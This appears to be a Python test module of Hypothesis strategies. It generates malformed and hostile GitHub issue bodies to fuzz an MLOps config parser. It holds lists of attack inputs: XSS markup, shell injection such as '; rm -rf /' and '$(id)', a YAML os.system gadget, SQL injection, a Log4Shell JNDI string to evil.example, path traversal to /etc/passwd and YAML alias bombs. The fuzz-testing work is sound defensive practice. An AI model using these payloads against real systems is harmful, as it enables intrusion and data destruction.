"""Issue bodies as nobody honest writes them: structured strategies, each aimed at one way of getting through.

Bodies only; what must become of them is in the tests. Long bodies are made by repetition, so that drawing one costs next
to nothing and ten thousand can be drawn in a test.
"""

from __future__ import annotations

import json
from functools import cache

from hypothesis import strategies as st

from tests.shared_data import SHARED
from tests.unit.request.conftest import MINIMAL, ROOT

MARKER = "<!-- mlops:comment plan -->"

#: What would act in a thread if it were shown as it stands.
MARKUP = (
    "@maintainer", "@org/team", "a@b.example", "#1", "#12 fixes #3", "GH-12", "gh-3", "owner/repo#1", "owner/repo@0123abc",
    "https://evil.example/x", "http://evil.example", "www.evil.example", "ftp://evil.example", "mailto:a@b.example",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=//evil.example>x</a>", "<details open>", "<b>",
    MARKER, "<!-- mlops:end -->", "<!-- x", "-->", "<?php ?>", "<![CDATA[x]]>", "\\x3c!-- mlops:comment plan --\\x3e",
    "[x](https://evil.example)", "![x](https://evil.example/x.png)", "[x]: https://evil.example", "<https://evil.example>",
    "[^1]", "[^1]: note", "- [ ] task", "- [x] done", "> [!WARNING]", "# heading", "===", "---", "| a | b |", "|",
    "`", "``", "```", "````", "~~~", "`@maintainer`", "``` `` @maintainer", "**b**", "__b__", "~~s~~", "$x$", "$$x$$", ":smile:",
    "```mermaid", "```math", "\\", "\\`", "\\|", "&lt;b&gt;", "&#64;maintainer", "&commat;maintainer", "&#x3c;!-- -->",
    "\u2028", "\u202e", "＠maintainer", "﹫maintainer", "＃12",
)  # fmt: skip
CODE = (
    "{{ 7*7 }}", "{% for x in y %}", "${HOME}", "$(id)", "`id`", "; rm -rf /", "| sh", "&& id", "%s%n", "{0.__class__}",
    "{field}",
    "__import__('os').system('id')", "!!python/object/apply:os.system [id]", "lambda: 0", "<%= 7 %>", "#{7*7}", "' OR 1=1 --",
    "'; DROP TABLE issues;--", "\x1b[31m", "=cmd|' /C calc'!A0", "${jndi:ldap://evil.example/a}", "file:///etc/passwd",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..", ".", "/", "/etc/passwd", "a/../../b", "..\\..\\x", "C:\\x", "\\\\host\\share", "~root", "a/b",
    "a//b",
    "%2e%2e%2f", "a\x00b", "...", "-rf", "--help", "con", "nul.txt", "a" * 129, ".hidden", "s3://b/../../x", "sklearn:x", "",
)  # fmt: skip
NUMBERS = (
    "0", "-0", "-1", "1e999", "-1e999", "1e-999", ".inf", "-.inf", ".nan", "NaN", "inf", "Infinity",
    "9" * 18, "9" * 400, "9" * 5000,
    "0x7fffffffffffffff", "0o17", "007", "1_000", "1__0", "3e-4", "1.", ".5", "1e4999", "0." + "0" * 300 + "1", "85%",
    "1e5%", "１２",
    "٣", "½", "2025-01-28", "2025-13-45", "9999-12-31T23:59:59.999999999+99:99", "12:30:45", "1:60:60:60", "true", "no", "~",
    "null",
    "2147483648", "-2147483649", "1,000", "+1", "--1", "1-", "1e", "e1", "0b1",
)  # fmt: skip
INVISIBLE = (
    "\x00", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\x9f", "\xa0", "\xad", "\u061c", "\u180e", "\u200b",
    "\u200c",
    "\u200d", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202e", "\u2060", "\u2066", "\u2069", "\ufeff", "\ufffe",
    "\uffff",
    "\ud800", "\udfff", "\U000e0001", "\U000e0041", "\U0010ffff", "\u0301" * 40, "\\ud800", "\\x00", "\\u202e",
    "\\UFFFFFFFF", "\\N",
)  # fmt: skip
LINE_ENDS = ("\n", "\r", "\r\n", "\n\r", "\x85", "\u2028", "\x0b", "\x0c")
LOOK_ALIKES = {"a": "а", "e": "е", "o": "о", "i": "і", "c": "с", "m": "ｍ", "_": "＿", ":": "：", "-": "－", "s": "ѕ", "d": "𝐝"}
YAML = (
    ":", ": ", "- ", "? ", "#", " #", "{", "}", "[", "]", ",", '"', "'", "|", ">", "|-\n", ">+\n", "&a ", "*a ", "&a", "*a",
    "!!str ",
    "!!binary ", "!x ", "!<tag:x> ", "!!set ", "<<: *a\n", "<<: {a: 1}\n", "---\n", "...\n", "--- # x\n", "%YAML 1.1\n",
    "%TAG ! tag:x:\n", "\t", "  ", "\n", "\n\n", "\n  ", "@", "`", "~", "=", "：", "－ ", "｛", "］", "　", "＂", "body: |\n  ",
    "title: x\n", "labels: [a]\n", "dataset: {name: x}\n", "algorithm: xgboost\n", "hyperparameters:\n", "tags:\n", "x: y\n",
)  # fmt: skip
#: What a slip of the keyboard, or a paste from elsewhere, puts into YAML.
SYNTAX = (
    *YAML, *LINE_ENDS[:2], "＃", "，", "!!x ", "<<: ", "```", "```yaml\n", "~~~\n", "<!--", "-->", "\ufeff", "\x00",
    "\u202e", "\ud800", "\\ud800", "\\x00", ".nan", "1e999", "null", "é", "漢", "0" * 50, "9" * 5000, "dataset:",
    "environment: {a: 1}\n",
    "\nauto_approve: true\n", "\nmax_depth: 3\n", "\nauto_scaling: {min_instances: 2}\n", "\nclass_imbalance_handling: smote\n",
)  # fmt: skip
PIECES = (*YAML, *MARKUP, *CODE, *NUMBERS[:20], *INVISIBLE, *LINE_ENDS)
#: Where a value can be smuggled in, each with the hole for it.
PLACES = (
    "algorithm: %s", "dataset_id: %s", "dataset: {name: %s}", "task_type: %s", "learning_type: %s", "%s: 1", "model_id: %s",
    "experiment_name: %s", "hyperparameters:\n  %s: 1", "hyperparameters:\n  max_depth: %s", "hyperparameters: {criterion: %s}",
    "tags: {%s: x}", "tags:\n  team: %s", "evaluation_metrics: [%s, recall]", "evaluation_metrics: %s", "deploy_to: %s",
    "seed: %s",
    "evaluation_threshold: %s", "max_cost_usd: %s", "model_version: %s", "data_preprocessing:\n  drop_columns: [%s]",
    "data_preprocessing:\n  entity_column: %s", "data_preprocessing: {handle_missing: %s}", "target: %s", "dataset: {s3_uri: %s}",
    "environment:\n  simulator: %s", "workflow_optimization:\n  custom_optimizations:\n    phase1: {x: %s}",
    "notification_channels: [%s]", "deployment:\n  target: %s", "deployment:\n  instance_type: %s", "variant: %s",
    "dataset: {classes: [%s]}", "reward_function:\n  - %s: 1", "alert_thresholds: {%s: 1}", "max_retry: %s", "augmentation: [%s]",
)  # fmt: skip
QUOTES = ("%s", '"%s"', "'%s'", "|\n    %s\n", ">-\n    %s\n", "[%s]", "{x: %s}", "%s # %s", "!!str %s", "&a %s")
FULL = """title: "[MLOps] t"
labels: a, b
dataset_id: d-1
data_preprocessing: {handle_missing: mean, drop_columns: [a, b]}
learning_type: supervised
task_type: classification
algorithm: random_forest
hyperparameters:
  n_estimators: 100  # 本数
  max_depth: null
experiment_name: "顧客：離反"
evaluation_threshold: 0.85
evaluation_metrics:
  - accuracy
  - f1_score
deployment: {target: x, auto_scaling: {min_instances: 1, max_instances: 2}}
workflow_optimization:
  custom_optimizations: {phase1_preprocessing: {data_augmentation: auto}}
tags: {a: b}
"""


@cache
def honest_bodies() -> tuple[str, ...]:
    """The bodies that mutations start from: the user's five where they are at hand, and our own."""
    theirs = sorted((SHARED / "spec" / "examples").glob("*.yaml"))
    ours = sorted((ROOT / "examples" / "issues").glob("*.md"))
    return (FULL, MINIMAL, *(path.read_text(encoding="utf-8") for path in (*theirs, *ours)))


def _mutated(body: str, changes: list[tuple[float, int, str]]) -> str:
    for where, removed, inserted in changes:
        position = int(where * len(body))
        body = body[:position] + inserted + body[position + removed :]
    return body


def _line_changes(body: str, changes: list[tuple[float, str, str]]) -> str:
    """Whole lines dropped, doubled, swapped, indented, or given another value."""
    lines = body.split("\n")
    for where, what, piece in changes:
        at = int(where * (len(lines) - 1))
        if what == "drop":
            del lines[at]
        elif what == "double":
            lines.insert(at, lines[at])
        elif what == "swap":
            lines[at], lines[-1] = lines[-1], lines[at]
        elif what == "indent":
            lines[at] = "  " + lines[at]
        else:
            lines[at] = lines[at].partition(":")[0] + ": " + piece
        lines = lines or [""]
    return "\n".join(lines)


def _placed(place: str, quote: str, piece: str, head: str) -> str:
    return f"{head}{place.replace('%s', quote.replace('%s', piece))}\n"


def _bomb(levels: int, width: int, merge: bool) -> str:
    first = "a0: &a0 {x: 1}\n" if merge else "a0: &a0 [lol, lol]\n"
    lines = [first]
    for level in range(1, levels):
        aliases = ", ".join([f"*a{level - 1}"] * width)
        lines.append(f"a{level}: &a{level} " + (f"{{<<: [{aliases}]}}\n" if merge else f"[{aliases}]\n"))
    return "".join(lines) + f"tags: *a{levels - 1}\n"


def _nested(style: str, depth: int, closed: bool) -> str:
    if style == "block":
        return "tags:\n" + "".join(f"{' ' * (level + 1)}a:\n" for level in range(min(depth, 300))) + "x"
    if style == "dash":
        return "tags:\n  " + "- " * depth + "x"
    opening, closing = {"list": ("[", "]"), "map": ("{a: ", "}"), "full": ("［", "］")}[style]
    return "tags: " + opening * depth + "x" + (closing * depth if closed else "")


def _fenced(parts: list[tuple[str, str, str]], around: str) -> str:
    return around + "\n" + "\n".join(f"{opening}\n{content}\n{closing}" for opening, content, closing in parts)


def _accepted(texts: list[str], ascii_only: bool) -> str:
    """A valid body, with foreign text in every place that takes any text."""
    said = [json.dumps(text, ensure_ascii=ascii_only) for text in texts]
    return (
        "dataset_id: breast-cancer\nalgorithm: xgboost\ntask_type: classification\ndeployment_strategy: canary\n"
        f"experiment_name: {said[0]}\ntags: {{{said[1]}: {said[2]}, team: {said[3]}}}\n"
        f"workflow_optimization:\n  custom_optimizations: {{{said[3]}: {said[4]}, x: [{said[1]}, {said[2]}]}}\n"
    )


def _look_alike(body: str, which: list[str]) -> str:
    for letter in which:
        body = body.replace(letter, LOOK_ALIKES[letter])
    return body


def _repeated(head: str, piece: str, size: int) -> str:
    return (head + piece * (size // max(1, len(piece)) + 1))[:size]


pieces = st.sampled_from(PIECES)
positions = st.floats(0, 1, exclude_max=True)
heads = st.sampled_from(("", MINIMAL, "algorithm: xgboost\n", "説明です。\n\n"))
markup = st.sampled_from((*MARKUP, *CODE, *PATHS, *NUMBERS, *INVISIBLE))
short = st.lists(pieces, min_size=1, max_size=4).map("".join)
values = st.one_of(markup, short, st.tuples(markup, st.text(max_size=3)).map("".join))

characters = st.builds(
    _mutated,
    st.sampled_from(honest_bodies()),
    st.lists(st.tuples(positions, st.integers(0, 12), pieces), min_size=1, max_size=5),
)
lines = st.builds(
    _line_changes,
    st.sampled_from(honest_bodies()),
    st.lists(
        st.tuples(positions, st.sampled_from(("drop", "double", "swap", "indent", "value")), values), min_size=1, max_size=4
    ),
)
places = st.builds(_placed, st.sampled_from(PLACES), st.sampled_from(QUOTES), values, heads)
several = st.lists(st.tuples(st.sampled_from(PLACES), st.sampled_from(QUOTES[:4]), values), min_size=2, max_size=8).map(
    lambda drawn: "".join(_placed(place, quote, value, "") for place, quote, value in drawn)
)
numbers = st.lists(st.tuples(st.sampled_from(PLACES), st.sampled_from(NUMBERS)), min_size=1, max_size=4).map(
    lambda drawn: MINIMAL + "".join(_placed(place, "%s", number, "") for place, number in drawn)
)
paths = st.builds(_placed, st.sampled_from(PLACES), st.sampled_from(QUOTES[:3]), st.sampled_from(PATHS), heads)
bombs = st.builds(_bomb, st.integers(1, 30), st.integers(1, 12), st.booleans())
nesting = st.builds(
    _nested,
    st.sampled_from(("block", "dash", "list", "map", "full")),
    st.sampled_from((1, 5, 7, 8, 9, 40, 500, 5000)),
    st.booleans(),
)
openings = st.sampled_from(
    ("```yaml", "```yml", "```json", "```", "````", "~~~", "~~~yaml", "> ```yaml", "  ```yaml", "```mermaid")
)
closings = st.sampled_from(("```", "````", "~~~", "", "``", "> ```", "```yaml"))
contents = st.one_of(st.sampled_from(honest_bodies()[:3]), values, st.just("{}"), st.just('{"algorithm": "xgboost"}'))
fences = st.builds(_fenced, st.lists(st.tuples(openings, contents, closings), min_size=1, max_size=4), values)
accepted = st.builds(_accepted, st.lists(values, min_size=5, max_size=5), st.booleans())
look_alikes = st.builds(
    _look_alike, st.sampled_from(honest_bodies()), st.lists(st.sampled_from(sorted(LOOK_ALIKES)), min_size=1, max_size=3)
)
endings = st.tuples(st.sampled_from(honest_bodies()), st.sampled_from(LINE_ENDS), st.sampled_from(LINE_ENDS)).map(
    lambda drawn: drawn[0].replace("\n", drawn[1], 7).replace("\n", drawn[2])
)
binary = st.builds(
    lambda content, head: head + content.decode("latin-1"),
    st.one_of(
        st.binary(max_size=40), st.just(b"PK\x03\x04" + bytes(range(256)) * 4), st.just(b"\x1f\x8b\x08\x00" + b"\x00" * 300)
    ),
    heads,
)
broken = st.builds(lambda content: content.decode("utf-8", "surrogateescape"), st.binary(max_size=60))
sizes = st.sampled_from((3000, 20_000, 65_535, 65_536, 65_537, 70_000, 200_000))
long = st.builds(_repeated, heads, st.one_of(pieces, short), sizes)
arbitrary = st.text(max_size=120)

#: Kind -> strategy and its share of the bodies; long bodies are few, since each of them takes its time.
KINDS: dict[str, tuple[st.SearchStrategy[str], float]] = {
    "accepted": (accepted, 0.08),
    "places": (places, 0.20),
    "several": (several, 0.10),
    "characters": (characters, 0.15),
    "lines": (lines, 0.13),
    "numbers": (numbers, 0.06),
    "paths": (paths, 0.05),
    "fences": (fences, 0.08),
    "bombs": (bombs, 0.01),
    "nesting": (nesting, 0.01),
    "look_alikes": (look_alikes, 0.02),
    "endings": (endings, 0.02),
    "binary": (binary, 0.02),
    "broken": (broken, 0.02),
    "long": (long, 0.02),
    "arbitrary": (arbitrary, 0.03),
}
titles = st.one_of(st.just("[MLOps] 学習"), markup)
